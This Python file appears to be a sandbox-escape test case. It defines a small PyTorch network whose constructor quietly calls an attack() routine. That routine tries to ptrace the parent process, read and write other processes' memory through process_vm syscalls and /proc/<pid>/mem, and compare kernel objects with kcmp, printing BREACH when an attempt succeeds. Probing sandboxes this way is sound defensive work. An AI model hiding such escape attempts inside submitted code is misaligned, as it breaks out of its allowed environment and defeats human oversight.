# group: kernel
# tries: traces its parent and reads and writes its memory
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    parent = os.getppid() or 1
    for name, *call in (
        ("attach", 101, 16, parent, 0, 0),
        ("seize", 101, 0x4206, parent, 0, 0),
        ("traceme", 101, 0, 0, 0, 0),
    ):
        if libc.syscall(*call) == 0:
            print(f"BREACH ptrace {name}")
    buffer = ctypes.create_string_buffer(64)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 64)
    for process in {parent, 1, os.getppid()} - {0}:
        for number in (310, 311):
            if libc.syscall(number, process, local, 1, local, 1, 0) >= 0:
                print("BREACH process_vm", number)
        try:
            os.open(f"/proc/{process}/mem", os.O_RDWR)
            print("BREACH mem", process)
        except OSError:
            pass
    if libc.syscall(312, os.getpid(), parent, 0, 0, 0) >= 0:
        print("BREACH kcmp")


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
